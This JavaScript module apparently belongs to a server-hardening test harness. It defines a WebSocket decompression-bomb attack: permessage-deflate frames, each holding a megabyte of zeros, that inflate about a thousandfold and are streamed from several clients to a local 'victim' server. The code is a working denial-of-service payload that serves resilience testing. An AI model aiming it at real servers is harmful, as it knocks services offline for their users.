/**
 * What hostile clients do over WebSockets: small messages that inflate to large ones.
 *
 * As those in http.mjs; few clients are enough, since each message costs the server a thousand times its
 * bytes.
 */
import { once } from 'node:events'
import { constants, deflateRawSync } from 'node:zlib'
import { keepWriting, pause } from './victim.mjs'

const CLIENTS = 5
const BYTES = 1024 * 1024
const REQUEST = [
  'GET /live HTTP/1.1',
  'Host: localhost',
  'Upgrade: websocket',
  'Connection: Upgrade',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Extensions: permessage-deflate',
  '\r\n',
].join('\r\n')

/** A compressed binary message of a client, masked with zeros. */
function bomb() {
  const flushed = deflateRawSync(Buffer.alloc(BYTES), { finishFlush: constants.Z_SYNC_FLUSH })
  const payload = flushed.subarray(0, -4) // RFC 7692, 7.2.1
  return Buffer.concat([
    Buffer.from([0xc2, 0xfe, payload.length >> 8, payload.length & 0xff, 0, 0, 0, 0]),
    payload,
  ])
}

/** @type {import('./victim.mjs').Attack[]} */
export const attacks = [
  {
    name: 'messages that inflate to a thousand times their bytes',
    limits: {},
    async run(victim) {
      const sockets = await victim.connectMany(CLIENTS)
      const part = Buffer.concat(Array(50).fill(bomb()))
      for (const socket of sockets) {
        socket.write(REQUEST)
        await once(socket, 'data')
        socket.resume()
        keepWriting(socket, part)
      }
      await pause(500)
      return sockets
    },
  },
]
